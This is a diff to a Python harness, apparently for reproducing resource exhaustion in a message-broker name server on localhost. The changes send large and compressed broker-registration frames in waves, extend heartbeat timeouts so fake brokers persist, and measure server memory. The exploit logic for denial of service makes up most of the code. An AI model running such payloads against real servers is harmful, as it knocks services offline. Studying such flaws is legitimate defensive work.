@@ -7,7 +7,8 @@
            table of BEHIND_TOPICS topics, each broker's decoded in full, one after the other), then
            1 MiB oneway frames behind it for BEHIND_SECONDS, as fast as the server takes them
   queue    one such registration, then PEERS connections each sending one whole REGISTER_BROKER
-           frame of frameMaxLength (a plain JSON table) that waits its turn behind it
+           frame of frameMaxLength (a plain JSON table) that waits its turn behind it, 12 at once
+           (their unfinished frames together within the default budget), one wave after the other
   amplify  AMPLIFY_BROKERS REGISTER_BROKERs on one connection, each a compressed table of
            AMPLIFY_TOPICS topics of its own under a broker name of its own, one after the other
 
@@ -39,6 +40,7 @@ import zlib
 from pathlib import Path
 
 FRAME_MAX = 16 * 1024 * 1024
+QUEUE_WAVE = 12  # queue's peers send at once, one wave after the other
 
 
 def free_port() -> int:
@@ -165,7 +167,8 @@ def compressed_table(names: list[str]) -> bytes:
 def register(src: Path, body: bytes, broker: str, opaque: int, compressed: bool = True) -> bytes:
     remoting, codes = codec(src)
     ext = {"clusterName": "attack", "brokerAddr": f"127.0.0.1:{10000 + opaque}", "brokerName": broker,
-           "brokerId": "0", "compressed": str(compressed).lower(), "bodyCrc32": "0"}
+           "brokerId": "0", "compressed": str(compressed).lower(), "bodyCrc32": "0",
+           "heartbeatTimeoutMillis": "3600000"}  # (5.x honours it) an attack that lasts minutes keeps its brokers
     return remoting.RemotingCommand.request(remoting.RequestCode.REGISTER_BROKER, ext, body, opaque=opaque,
                                             version=codes.V4_9_8).encode()
 
@@ -291,7 +294,9 @@ def queue(server: Server, peers: int, topics: int, src: Path) -> dict[str, objec
         sock = socket.create_connection(("127.0.0.1", server.port), timeout=120)
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
         sockets.append(sock)
-    highest = send_all(sockets, queued, server)
+    highest = 0.0
+    for wave in range(0, peers, QUEUE_WAVE):  # a wave's unfinished frames fit the budget together
+        highest = max(highest, send_all(sockets[wave:wave + QUEUE_WAVE], queued, server))
     time.sleep(1)
     highest = max(highest, server.rss_mb())
     open_left = 0
